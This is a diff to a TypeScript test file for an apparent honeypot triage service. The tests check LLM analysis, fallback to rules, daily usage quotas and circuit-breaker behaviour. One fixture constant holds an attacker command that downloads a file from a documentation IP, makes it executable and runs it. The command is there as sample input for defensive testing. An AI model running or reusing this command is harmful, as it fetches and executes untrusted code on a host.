@@ -3,6 +3,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, inject, test } from 
 import { type LlmServer, startLlmServer } from '../../testing/llm-server.js'
 import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
 
+const DAY_MS = 86_400_000
 const COMMAND = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
 
 describe.each(inject('postgresServers').slice(0, 1))('triage on $version', (server) => {
@@ -59,10 +60,10 @@ describe.each(inject('postgresServers').slice(0, 1))('triage on $version', (serv
     post('/ai/chat', { session_id: session, messages: [{ role: 'user', content }] })
 
   /** A session on a platform of its own, and the two questions about it. */
-  async function askingAbout(other: TestPlatform) {
+  async function askingAbout(other: TestPlatform, source_ip = '203.0.113.1') {
     const as = await other.login()
     const sent = await other.send(
-      JSON.stringify({ source_ip: '203.0.113.1', occurred_at: new Date().toISOString(), command: COMMAND }),
+      JSON.stringify({ source_ip, occurred_at: new Date().toISOString(), command: COMMAND }),
     )
     const { session_id } = (await sent.json()) as IngestOne
     const messages = [{ role: 'user', content: 'What happened?' }]
@@ -85,6 +86,7 @@ describe.each(inject('postgresServers').slice(0, 1))('triage on $version', (serv
       severity_check: null,
       dropped: { techniques: 0, iocs: 0, claims: 0, actions: 0 },
       drop_reasons: [],
+      fallback: null,
     })
     expect(triage.evidence).toHaveLength(1)
     expect(llm.requests.find(({ url }) => url === '/v1/chat/completions')?.headers.authorization).toBe(
@@ -173,6 +175,10 @@ describe.each(inject('postgresServers').slice(0, 1))('triage on $version', (serv
       llm.mode = mode
       const triage = await analyze()
       expect(triage).toMatchObject({ source: 'rules', available: false, model: null, severity: 'high' })
+      expect(triage.fallback).toMatchObject({
+        reason: mode === 'malformed' ? 'unusable_answer' : 'unavailable',
+        retry_at: null,
+      })
       expect(triage.summary).toContain('203.0.113.')
       expect(triage.techniques.map(({ id }) => id)).toContain('T1105')
       expect(triage.iocs).toContainEqual({
@@ -338,6 +344,100 @@ describe.each(inject('postgresServers').slice(0, 1))('triage on $version', (serv
     },
   )
 
+  test('a user who is over the quota gets the analysis of the rules and when the LLM may be asked again; a cached one costs nothing', async () => {
+    llm.mode = 'normal'
+    const clock = { ahead: Math.ceil(Date.now() / DAY_MS) * DAY_MS - Date.now() + DAY_MS + 60_000 }
+    const other = await startTestPlatform(server, {
+      environment: { ...environment, LLM_DAILY_REQUESTS_PER_USER: '1' },
+      now: () => Date.now() + clock.ahead,
+    })
+    try {
+      const { analyses, chats } = await askingAbout(other)
+      expect(await (await analyses()).json()).toMatchObject({ source: 'llm', fallback: null })
+      expect(await (await analyses()).json()).toMatchObject({ source: 'llm', fallback: null })
+      const refused = await chats()
+      expect([refused.status, ((await refused.json()) as Problem).type]).toEqual([429, '/problems/llm-quota'])
+      const seconds = Number(refused.headers.get('retry-after'))
+      expect(seconds).toBeGreaterThan(DAY_MS / 1000 - 300)
+      expect(seconds).toBeLessThan(DAY_MS / 1000)
+      const before = llm.requests.length
+      const next = await askingAbout(other, '203.0.113.2')
+      const midnight = new Date(Math.ceil((Date.now() + clock.ahead) / DAY_MS) * DAY_MS).toISOString()
+      expect(await (await next.analyses()).json()).toMatchObject({
+        source: 'rules',
+        available: false,
+        fallback: { reason: 'user_quota', retry_at: `${midnight.slice(0, 19)}.000000Z` },
+      })
+      expect(llm.requests.length).toBe(before)
+      // Refusals are ours: nobody met an LLM that is away.
+      const metrics = await (await other.call('/metrics')).text()
+      expect(metrics).toMatch(/^eviltwin_ai_quota_refusals_total\{operation="analyze",quota="user"\} 1$/m)
+      expect(metrics).toMatch(/^eviltwin_ai_quota_refusals_total\{operation="chat",quota="user"\} 1$/m)
+      expect(metrics).toMatch(/^ai_unavailable_count_total\{operation="analyze"\} 0$/m)
+      clock.ahead += DAY_MS
+      const tomorrow = await askingAbout(other, '203.0.113.3')
+      expect(await (await tomorrow.analyses()).json()).toMatchObject({ source: 'llm', fallback: null })
+    } finally {
+      await other.close()
+    }
+  })
+
+  test('the quota of all survives a restart and is shared; the watch over the LLM neither needs nor uses it', async () => {
+    llm.mode = 'normal'
+    const limited = { ...environment, LLM_DAILY_REQUESTS: '2' }
+    const clock = { ahead: 3_600_000 }
+    const now = () => Date.now() + clock.ahead
+    const other = await startTestPlatform(server, { environment: limited, now })
+    const replica = await startTestPlatform(server, { environment: limited, now, beside: other })
+    try {
+      const ask = await askingAbout(other)
+      await (await ask.chats()).text()
+      const elsewhere = await askingAbout(replica)
+      await (await elsewhere.chats()).text()
+      expect((await ask.chats()).status).toBe(429)
+      expect(await (await elsewhere.analyses()).json()).toMatchObject({
+        source: 'rules',
+        fallback: { reason: 'total_quota' },
+      })
+      expect(replica.logged.filter(({ message }) => message === 'LLM quota is used up')).toMatchObject([
+        { level: 'WARNING', limit: 2 },
+      ])
+      const status = async () =>
+        (await (await other.call('/ai/status', { as: await other.login() })).json()) as AiStatus
+      expect(await status()).toMatchObject({ available: true })
+      llm.mode = '500'
+      llm.listsModels = false
+      clock.ahead += 60_000
+      expect(await status()).toMatchObject({ available: false })
+      llm.mode = 'normal'
+      const probes = llm.requests.filter(({ body }) => body.includes('Ping')).length
+      clock.ahead += 60_000
+      expect(await status()).toMatchObject({ available: true })
+      expect(llm.requests.filter(({ body }) => body.includes('Ping'))).toHaveLength(probes + 1)
+    } finally {
+      llm.listsModels = true
+      await replica.close()
+      await other.close()
+    }
+  })
+
+  test('requests that the circuit breaker keeps from the LLM use nothing of the quota', async () => {
+    llm.mode = '500'
+    const other = await startTestPlatform(server, {
+      environment: { ...environment, LLM_DAILY_REQUESTS_PER_USER: '6' },
+    })
+    try {
+      const ask = await askingAbout(other)
+      for (let n = 0; n < 5; n += 1) await (await ask.chats()).text()
+      for (let n = 0; n < 5; n += 1) {
+        expect((await ask.chats()).status).toBe(503)
+        expect(await (await ask.analyses()).json()).toMatchObject({ fallback: { reason: 'unavailable' } })
+      }
+    } finally {
+      await other.close()
+    }
+  })
+
   test('an unknown session is a 404, a malformed request a 422, a viewer is refused', async () => {
     expect((await post('/ai/analyze', { session_id: '00000000-0000-4000-8000-000000000000' })).status).toBe(
       404,
@@ -359,6 +459,7 @@ describe.each(inject('postgresServers').slice(0, 1))('triage without an LLM on $
     expect(await (await call('/ai/analyze', { session_id })).json()).toMatchObject({
       source: 'rules',
       available: false,
+      fallback: { reason: 'not_configured', retry_at: null },
     })
     expect((await call('/ai/chat', { session_id, messages: [{ role: 'user', content: 'hi' }] })).status).toBe(
       503,
